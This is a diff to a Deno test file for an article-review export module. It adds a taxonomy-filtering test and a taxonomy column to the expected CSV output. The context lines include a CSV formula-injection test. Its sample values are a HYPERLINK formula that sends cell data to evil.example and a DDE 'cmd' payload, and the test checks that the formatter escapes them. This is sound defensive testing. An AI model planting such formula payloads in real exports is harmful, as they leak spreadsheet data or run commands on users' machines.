@@ -87,9 +87,39 @@ for (const { name, open } of testDatabases()) {
         },
       );
 
+      await t.step(
+        "exportPages() exports one taxonomy's reviews; another's later review hides nothing",
+        async () => {
+          await reset();
+          await finishedReviews(db, 3, 40);
+          // A later finished review of article 1's section, in another taxonomy.
+          await db.query(
+            `INSERT INTO review_items (article_id, model_version, predicted_label, score, scores,
+                                     margin, reasons, status, required_labels, label_count,
+                                     final_label, decided_at, taxonomy)
+           VALUES (1, 'test-model-v1', 'SPORTS', 0.9, '{}', 0.8, '{manual}', 'done', 1, 1,
+                   'SPORTS', now() + interval '1 minute', 'section')`,
+          );
+          const rows = async (taxonomy?: string) => {
+            const out = [];
+            for await (const page of exportPages(db, { taxonomy })) out.push(...page);
+            return out;
+          };
+          const topic = await rows();
+          assert.deepEqual(topic.map((r) => r.articleId), [1, 2, 3]);
+          assert.ok(topic.every((r) => r.taxonomy === "topic"));
+          const section = await rows("section");
+          assert.deepEqual(section.map((r) => [r.articleId, r.label, r.taxonomy]), [
+            [1, "SPORTS", "section"],
+          ]);
+          assert.deepEqual(await rows("nothing"), []);
+        },
+      );
+
       await t.step("CSV quotes fields with commas, quotes and line breaks", () => {
         const row = {
           itemId: 1,
+          taxonomy: "topic",
           articleId: 2,
           externalId: null,
           url: null,
@@ -112,7 +142,7 @@ for (const { name, open } of testDatabases()) {
         assert.equal(
           formatPage([row], "csv"),
           '1,2,,,wire,,2024-01-01T00:00:00.000Z,"He said ""hi"", then\nleft"," padded",sport,' +
-            "done,,sport,0.5,v1,low_confidence;audit,ann;bob,,2024-01-02T00:00:00.000Z\r\n",
+            "done,,sport,0.5,v1,low_confidence;audit,ann;bob,,2024-01-02T00:00:00.000Z,topic\r\n",
         );
         assert.deepEqual(JSON.parse(formatPage([row], "jsonl")), row);
       });
@@ -171,6 +201,7 @@ for (const { name, open } of testDatabases()) {
 Deno.test("formatPage() prefixes CSV text that starts like a formula with '; numbers stay numbers", () => {
   const row = {
     itemId: 7,
+    taxonomy: "topic",
     articleId: 8,
     externalId: "-2+3",
     url: "@SUM(A1:A9)",
@@ -195,7 +226,7 @@ Deno.test("formatPage() prefixes CSV text that starts like a formula with '; num
     "7,8,'-2+3,'@SUM(A1:A9),'+wire,,2024-01-01T00:00:00.000Z," +
       '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")",\'\t=1+1,sport,done,,' +
       "sport,-0.25,\"'\r=cmd|' /C calc'!A0\",low_confidence,'=ann;bob,'-carol," +
-      "2024-01-02T00:00:00.000Z\r\n",
+      "2024-01-02T00:00:00.000Z,topic\r\n",
   );
   // Text that only contains those characters further on is left as it is.
   const plain = formatPage([{ ...row, externalId: "x-1", title: "a = b - c", score: -1 }], "csv");
